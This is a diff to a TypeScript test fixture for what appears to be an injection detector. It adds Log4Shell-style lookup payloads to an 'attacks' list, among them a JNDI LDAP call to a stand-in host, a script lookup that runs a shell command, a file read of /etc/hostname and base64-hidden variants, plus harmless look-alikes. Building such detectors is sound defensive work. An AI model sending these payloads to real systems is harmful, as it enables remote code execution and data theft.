@@ -25,6 +25,13 @@ export const attacks: readonly string[] = [
   'jndi:ldap://x.example/a',
   '${::-j}',
   '${lower:jn}',
+  '${url:UTF-8:http://x.example/}',
+  '${dns:address|x.example}',
+  "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+  '${file:UTF-8:/etc/hostname}',
+  '${const:java.awt.event.KeyEvent.VK_ESCAPE}',
+  '${base64:JHtqbmRpOmxkYXA6Ly94L2F9}',
+  '${base64Decoder:JHtqbmRpOmxkYXA6Ly94L2F9}',
 ]
 
 export const harmless: readonly string[] = [
@@ -47,6 +54,11 @@ export const harmless: readonly string[] = [
   '${{ secrets.TOKEN }}',
   'resource: ${Cluster.Arn}',
   '${upper:a placeholder of some other kind}',
+  '${file:config.json}',
+  '${url:home}',
+  '${dns:ttl}',
+  '${script:build}',
+  '${base64:aGVsbG8=}',
 ]
 
 /** What a hostile text repeats. */
